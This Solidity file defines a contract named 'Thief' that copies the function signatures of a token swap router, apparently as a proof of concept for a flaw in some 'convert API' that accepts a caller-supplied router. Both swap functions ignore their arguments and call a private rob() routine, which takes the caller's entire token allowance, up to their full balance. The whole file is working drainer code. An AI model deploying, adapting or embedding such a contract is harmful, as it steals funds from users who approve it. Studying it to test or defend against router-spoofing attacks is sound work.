// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";

/// Where the lies of the convert API lead: looks like a swap router and keeps whatever it can get.
contract Thief {
    using SafeERC20 for IERC20;

    function swapExactTokensForTokens(uint256, uint256, address[] calldata path, address, uint256) external payable {
        rob(IERC20(path[0]));
    }

    function swapExactTokensForETH(uint256, uint256, address[] calldata path, address, uint256) external payable {
        rob(IERC20(path[0]));
    }

    /// Everything the caller ever allowed, not only what this swap was to cost.
    function rob(IERC20 token) private {
        uint256 allowed = token.allowance(msg.sender, address(this));
        uint256 owned = token.balanceOf(msg.sender);
        token.safeTransferFrom(msg.sender, address(this), allowed < owned ? allowed : owned);
    }

    receive() external payable {}

    fallback() external payable {}
}
